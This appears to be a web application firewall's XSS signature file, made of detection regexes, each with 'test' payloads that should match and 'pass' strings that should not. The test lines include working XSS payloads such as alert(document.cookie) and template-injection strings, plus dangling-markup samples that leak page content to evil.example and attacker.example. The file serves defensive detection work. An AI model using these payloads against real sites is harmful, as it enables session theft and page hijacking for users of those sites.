# Cross-site scripting signatures (ids 300002000-300002999).

id: 300002000
name: XSS (HTML tokenizer)
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
# Not `query`: `onload=googleLoginRender` is an attribute to the HTML tokenizer; every parameter
# of a query string is scanned on its own.
targets: param-value, cookie, json, grpc, header, param-name
unless: binary
engine: xss
test: <img src=x onerror=alert(1)>
pass: a < b > c
pass: <meta name="viewport" content="width=device-width, initial-scale=1, shrink-to-fit=no">
pass: <link rel="shortcut icon" type="image/x-icon" href="/favicon.ico">
test: <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
test: <link rel=import href=//evil.example/x.html>
test: <meta name=x onmouseover=alert(1)>

id: 300002001
name: XSS: script tag (a closing one, a complete opening one, or one with an attribute value; a bare `<script` in a search cannot open one)
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: <
regex: <\s*/\s*(?:[a-z]+:)?script\b|<\s*(?:[a-z]+:)?script\s*/?\s*>|<\s*(?:[a-z]+:)?script[\s/][^<>]{0,200}?[>=]
test: <script>alert(1)</script>
test: < ScRiPt src=//x.y>
test: </script><svg>
test: <script/x>alert(1)//
test: <<script/src=http://xss.example/xss.js></script
pass: the javascript book
pass: for power, binary<script is incorrect
pass: 1<script

id: 300002002
name: XSS: event handler attribute in a tag
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: <
regex: <[a-z!?/][^>]{0,200}?[\s/"'`;]on[a-z]{3,40}\s*=
test: <body onload=alert(1)>
test: <svg/onload=prompt(1)>
pass: <a href="/on/line">

id: 300002003
name: XSS: event handler injected into an attribute
type: Cross Site Scripting (XSS)
accuracy: medium
risk: high
targets: @values, header, url
unless: binary
literal: =
regex: ["'`\s/;]on(?:abort|activate|afterprint|animation\w+|auxclick|before\w+|begin|blur|bounce|canplay\w*|change|click|contextmenu|copy|cut|dblclick|drag\w*|drop|durationchange|end|ended|error|finish|focus\w*|hashchange|input|invalid|key\w+|load\w*|message|mouse\w+|paste|pause|play\w*|pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll|search|select\w*|show|start|storage|submit|toggle|touch\w+|transition\w+|unload|volumechange|wheel|webkit\w+|mozfullscreenchange|formchange|forminput|filterchange|cellchange|rowenter|rowexit|propertychange|afterupdate|beforeupdate)\s*=\s*["'`]?[^\s"'`>]*?(?:[(`=]|&#|\\x|\\u|alert|prompt|confirm|eval|javascript|document|window|location|top\b|self\b|this\b)
test: " onmouseover="alert(1)
test: x' onfocus=javascript:alert(1) autofocus '
pass: onload=captchaOnload&render=explicit
pass: online=true

id: 300002004
name: XSS: javascript/vbscript URI
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: script:
literal: script :
literal: script\t:
regex: (?:java|vb|live|ecma|j\s*a\s*v\s*a\s*)\s*s\s*c\s*r\s*i\s*p\s*t\s*:\s*(?:[/%\\'"{(!\[+\-&<`~]|(?:[a-uw-z_$]|v(?:[a-np-z_$0-9]|o(?:[a-hj-z_$0-9]|i(?:[a-ce-z_$0-9]|d[\w$]))))[\w$]*\s*[(`.=\[])
test: javascript:alert(document.cookie)
test: java script:alert(1)
pass: vbscript files
pass: JavaScript: Basics of JavaScript Language
pass: javascript:void(0)

id: 300002005
name: XSS: javascript URI with control characters
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url
unless: binary
literal: :
regex: j[\x00-\x20]*a[\x00-\x20]*v[\x00-\x20]*a[\x00-\x20]*s[\x00-\x20]*c[\x00-\x20]*r[\x00-\x20]*i[\x00-\x20]*p[\x00-\x20]*t[\x00-\x20]*:\s*(?:[/%\\'"{(!\[+\-&<`~]|(?:[a-uw-z_$]|v(?:[a-np-z_$0-9]|o(?:[a-hj-z_$0-9]|i(?:[a-ce-z_$0-9]|d[\w$]))))[\w$]*\s*[(`.=\[])
test: jav	ascript:alert(1)
pass: java: a language
pass: JavaScript: Basics

id: 300002006
name: XSS: dangerous HTML element (containers of script or navigation; media and SVG only with a handler or script URL; `meta` only with `http-equiv` or a `charset`, which sets the encoding the rest of the page is read in when it comes first, `link` only importing or to another site or a script URL)
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url, param-name
unless: binary
literal: <
regex: <\s*/?\s*(?:iframe|frame|frameset|object|embed|applet|math|base|style|form|isindex|xss|xml|import|template|bgsound|layer|ilayer|animate\w*|set|handler|listener|xmp|plaintext|noscript|portal|keygen)[\s/>]+[\s\S]{0,200}?(?:[\s/"']\w+\s*=|>)|<\s*meta[\s/][^>]{0,200}?(?:http-equiv|charset)|<\s*link[\s/][^>]{0,200}?(?:\brel\s*=\s*["']?\s*import\b|\bhref\s*=\s*(?:\\?["'`]\s*)?(?:(?:java|vb|live)script:|data:|[a-z][\w+.-]*:|//|\\))|<\s*(?:svg|marquee|image|video|audio|source|details|dialog)[\s/](?:[^>]{0,200}?[\s/"'])?(?:on[a-z]{3,}\s*=|(?:(?:xlink:)?href|src|data|poster|background)\s*=\s*(?:\\?["'`]\s*)?(?:(?:java|vb|live)script:|data:\s*(?:text/|application/|image/svg|,)))
test: <iframe src=//evil.example>
test: <svg><animate onbegin=x>
test: <video src=x onerror=alert(1)>
test: <image href="javascript:alert(1)">
pass: <image href="data:image/png;base64,iVBORw0KGgo" width="16"/>
pass: <svg t="1682594285904" class="icon" viewBox="0 0 1024 1024" xmlns="http://www.w3.org/2000/svg" width="200"><path d="M512 1024A512"></path></svg>
pass: a<b and c>d
pass: BLAH <A HREF="/FOO.HTML">FOO</A>
test: <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
test: <link rel=stylesheet href=//evil.example/x.css>
test: <LINK REL="stylesheet" HREF="javascript:alert(1);">
test: <meta charset="UTF-7">
pass: <meta name="viewport" content="width=device-width, initial-scale=1">
pass: <link rel="stylesheet" href="/css/site.css">
test: <meta charset="UTF-8">

id: 300002007
name: XSS: JavaScript execution sinks
type: Cross Site Scripting (XSS)
accuracy: medium
risk: high
targets: @values, header, url, param-name
# A value that is wholly a function's source (error loggers send them) defines and runs nothing.
# A document or window property is an attack where script uses it: assigned, called, passed,
# concatenated or read as a whole value; followed by a blank and a word it is named in a sentence
# (`document.cookie is read-only`), which no script grammar continues.
unless: binary, function
literal: alert
literal: prompt
literal: confirm
literal: eval
literal: document
literal: window.
literal: fromcharcode
literal: settimeout
literal: setinterval
literal: innerhtml
literal: outerhtml
literal: atob
literal: btoa
literal: constructor
literal: import(
literal: print(
literal: location
literal: top
literal: self
literal: parent
literal: frames
literal: window
literal: globalthis
regex: (?:^|[^\w.])(?:alert|prompt|confirm|eval|settimeout|setinterval|atob|btoa|print|execscript|msgbox)\s*(?:\(|`|\?\.\s*\(|\.call\s*\(|\.apply\s*\()|\(\s*(?:alert|prompt|confirm|eval)\s*\)\s*[(`]|\bdocument\s*(?:\?\.\s*)?\[\s*['"`](?:cookie|domain|location|write|body)|\bdocument\s*\?\.\s*(?:cookie|domain|location)|\bdocument\s*\.\s*(?:cookie|domain|write\w*|location|body|documentelement|createelement)(?:\s*(?:[^\w\s%]|%(?:[013-9a-f][0-9a-f]|2[1-9a-f])|$)|\s+(?:in|instanceof)\b)|\bwindow\s*\.\s*(?:location|open|name|eval)(?:\s*(?:[^\w\s%]|%(?:[013-9a-f][0-9a-f]|2[1-9a-f])|$)|\s+(?:in|instanceof)\b)|string\s*\.\s*fromcharcode|\.(?:inner|outer)html\s*=|\bconstructor\s*\(\s*['"`]|\bimport\s*\(\s*['"`]|(?:top|self|parent|frames|window|globalthis)\s*\[\s*['"`]|\blocation\s*(?:\.\s*href\s*)?=\s*['"`]?(?:java|data|//|http)
test: alert(1)
test: document.cookie
test: top['al'+'ert'](1)
test: (alert)(1)
test: btoa(document.cookie)
test: alert?.(document?.cookie)
test: document["cookie"]
test: function(){alert(document.cookie)}()
pass: fire alert levels
pass: document.cookie is read-only in this sandbox
pass: window.location is an object with the URL
pass: document.cookie%20is%20read-only%20here
test: document.cookie%3d1
test: (document.cookie)
test: document.cookie='a=b'
test: x=document.cookie;
pass: function(e){var n=new URL(window.location.href);e?(v(e.id),n.searchParams.delete("resourceGroupId")):v("")}

id: 300002008
name: XSS: data URI carrying HTML or script
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url
unless: binary
literal: data:
regex: data\s*:\s*(?:text/html|text/xml|image/svg\+xml|application/(?:x-)?(?:javascript|ecmascript|xhtml\+xml))|data\s*:[^,]{0,60};base64\s*,\s*(?:PHN|PD94|PCFET|PGh0bWw|PHNjcmlwd|PHN2Zy|PGlmcmFtZ)
test: data:text/html,<script>alert(1)</script>
test: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
pass: data: numbers only

id: 300002009
name: XSS: CSS expression and binding
type: Cross Site Scripting (XSS)
accuracy: high
risk: medium
systems: Microsoft Windows
targets: @values, header, url
unless: binary
literal: expression
literal: binding
literal: behavior
literal: @import
literal: url(
regex: \bexpression\s*\(|-moz-binding\s*:|\bbehavior\s*:\s*url|@import\s+['"]?(?:url\s*\()?\s*['"]?(?:java|//|http)|url\s*\(\s*['"]?\s*(?:java|vb)script\s*:
test: width:expression(alert(1))
pass: the expression of joy

id: 300002010
name: XSS: attribute-based script vectors
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url
unless: binary
literal: srcdoc
literal: formaction
literal: xlink:href
literal: href
literal: src
literal: action
literal: poster
literal: background
literal: dynsrc
literal: lowsrc
literal: from
literal: values
literal: to
regex: \b(?:srcdoc|formaction)\s*=|\bxlink:href\s*=|\b(?:href|src|action|poster|background|dynsrc|lowsrc|data|from|to|values)\s*=\s*["'`]?\s*(?:java|vb)script\s*:
test: <a xlink:href="#">
test: <iframe srcdoc="&lt;script&gt;">
pass: href=/home

id: 300002011
name: XSS: closing context then markup
type: Cross Site Scripting (XSS)
accuracy: medium
risk: high
targets: query, param-value, cookie, json, grpc, header, url
unless: binary
literal: >
regex: ^[^<]*["'`]\s*/?>\s*<\s*[a-z!/]|</\s*(?:title|textarea|style|noscript|script|xmp|iframe|noembed|template)\s*>|-->\s*<\s*[a-z!]|\]\]>\s*<\s*[a-z]
test: "><b>
test: </title><x>
pass: <p style="white-space: normal;">您好</p><p style="white-space: normal;"><br/></p>
pass: "quoted" > text

id: 300002012
name: XSS: client-side template injection
type: Cross Site Scripting (XSS)
accuracy: high
risk: high
targets: @values, header, url
unless: binary
literal: {{
regex: \{\{[\s\S]{0,100}?(?:constructor|\$on|\$eval|\$emit|toString\(\)\.constructor|alert|prompt|confirm|\$parent|__proto__|_c\.|\bx\s*=)
test: {{constructor.constructor('alert(1)')()}}
pass: {{ user.name }}

id: 300002013
name: XSS: HTML-escaped or JS-escaped markup
type: Cross Site Scripting (XSS)
accuracy: medium
risk: medium
targets: @values, header, url
unless: binary
literal: \\u003c
literal: \\x3c
literal: &#60
literal: &#x3c
literal: &lt;
literal: \\74
literal: +adw-
regex: (?:\\u003c|\\x3c|&#0*60;?|&#x0*3c;?|&lt;|\\74|\+adw-)\s*/?\s*(?:script|img|svg|iframe|body|a|object|embed|style|input|details|video|audio|math|form|base|link|meta)\b
test: \\x3cscript\\x3e
test: +ADw-script+AD4-alert(1)+ADw-/script+AD4-
pass: &lt;b&gt; as text is fine in text

id: 300002014
name: XSS: VBScript and IE-specific vectors
type: Cross Site Scripting (XSS)
accuracy: high
risk: medium
systems: Microsoft Windows, IIS
targets: @values, header, url
unless: binary
literal: msgbox
literal: vbscript
literal: execscript
literal: dataformatas
literal: datasrc
regex: \bmsgbox\s*\(|\bexecscript\s*\(|\bdataformatas\s*=|\bdatasrc\s*=|\blanguage\s*=\s*["']?vbscript
test: msgbox(1)
pass: inbox messages

id: 300002301
name: XSS: event handler attribute carried in a parameter name
type: Cross Site Scripting (XSS)
accuracy: medium
risk: high
# A name holding `onsomething=` (an encoded `=` inside the name) is an attribute written into the
# page by an application that reflects parameter names; no form field is named that way, so the
# handler name needs no list here.
targets: param-name
unless: binary
literal: =
regex: (?:^|[\s"'`/;])on[a-z]{3,40}\s*=
test:   onabcdefgh= 
test: x" onpointerrawupdate=
test: /onload=
pass: onload
pass: filter[online]
pass: utm_source=mail

id: 300002401
name: HTML injection: dangling markup, a URL attribute left open over the markup after it
type: Cross Site Scripting (XSS)
accuracy: high
risk: medium
# A quoted attribute that opens on a URL and is never closed before the next tag or the value's
# end (`<img src="//evil?`, then the page's own markup): the browser sends everything up to the
# next matching quote, CSRF tokens and form values included, to that host, without any script.
# A URL attribute a page writes closes its quote before its next tag.
targets: @values, header
unless: binary
literal: src
literal: href
literal: action
literal: background
literal: poster
literal: data
literal: ping
literal: cite
regex: <[a-z][\w:-]*\s[^>]*?\b(?:src|href|action|formaction|background|poster|data|ping|cite|codebase|lowsrc|dynsrc)\s*=\s*["']\s*(?:[a-z][\w+.-]*:)?//[^"'<>\r\n]{0,200}(?:<|$)
test: <body background="//evil? <table background="//evil? <table>
test: <img src='http://attacker.example/?x= <form><input name=csrf value=1>
test: "><a href="//evil.example/log?<input type=hidden>
test: <img src="//attacker.example/log?
pass: <img src="//cdn.example/a.png"><p>caption</p>
pass: <a href="https://example.com/?q=1">link</a> <b>bold</b>
pass: a < b and src = "//x" > c

id: 300002402
name: HTML injection: legacy resource attributes loading from another host
type: Cross Site Scripting (XSS)
accuracy: medium
risk: medium
# `background`, `lowsrc` and `dynsrc` are attributes of obsolete HTML (table and body
# backgrounds, Internet Explorer's low-resolution and video sources) that fetch a URL with no
# script: injected markup uses them to call another host, and old browsers run `javascript:`
# in them. Editors of today write backgrounds in CSS.
targets: @values, header
unless: binary
literal: background
literal: lowsrc
literal: dynsrc
regex: <[a-z][\w:-]*\s[^>]*?\b(?:background|lowsrc|dynsrc)\s*=\s*["'`]?\s*(?:[a-z][\w+.-]*:)?//
test: <table background="//evil.example/x.png">
test: <td background=http://evil.example/>
test: <img lowsrc="//evil/a">
pass: <table style="background: url(/img/bg.png)">
pass: background=//cdn.example/a.png
pass: <div class="background">//comment</div>

id: 300002403
name: HTML injection: a link that downloads or pings on a click
type: Cross Site Scripting (XSS)
accuracy: medium
risk: medium
# An injected `<a download>` makes a click save content of the attacker's choosing under the
# site's name (a page saved as `invoice.html`, an executable), and `ping` reports each click
# to another host: both act without script, so a filter for script misses them.
targets: @values, header
unless: binary
literal: download
literal: ping
regex: <a\s[^>]*?\b(?:download|ping)\b\s*(?:=|>|/|\s[a-z])
test: <a href=# download="filename.html">Test</a>
test: <a href="/x" ping="//evil.example/track">click</a>
test: <a download href=data:text/html,x>
pass: <a href="/downloads/file.zip">download</a>
pass: <a href="/ping">ping</a>
pass: download <a> tag attribute reference
